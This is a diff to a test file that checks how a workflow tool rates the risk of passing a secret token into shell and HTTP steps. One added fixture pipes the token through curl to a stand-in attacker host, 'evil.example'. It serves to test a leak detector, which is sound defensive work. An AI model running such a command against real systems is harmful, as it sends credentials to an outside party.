@@ -111,8 +111,13 @@ describe('a secret input', () => {
     ['an environment', 'type: shell, with: {command: [./a], env: {T: "${{ inputs.token }}"}}', 'low'],
     ['a condition', `type: shell, when: 'inputs.token == "x"', with: {command: [./a]}`, 'high'],
     [
-      'a process that calls out',
-      'type: shell, with: {command: [curl, "https://api.example/"], stdin: "${{ inputs.token }}"}',
+      'a process that calls a place which is not declared',
+      'type: shell, with: {command: [curl, "https://evil.example/"], stdin: "${{ inputs.token }}"}',
+      'medium',
+    ],
+    [
+      'the environment of a process that calls out',
+      'type: shell, with: {command: [curl, "https://api.example/"], env: {T: "${{ inputs.token }}"}}',
       'medium',
     ],
     [
@@ -129,6 +134,10 @@ describe('a secret input', () => {
   test.for([
     ['a file', 'type: shell, with: {command: [./a], files: {T: "${{ inputs.token }}"}}'],
     ['standard input', 'type: shell, with: {command: [./a], stdin: "${{ inputs.token }}"}'],
+    [
+      'a file for a process that calls what is declared',
+      'type: shell, with: {command: [curl, "https://api.example/"], files: {T: "${{ inputs.token }}"}}',
+    ],
     [
       'a header for a declared host',
       'type: http, with: {url: "https://api.example/v1", headers: {Authorization: "Bearer ${{ inputs.token }}"}}',
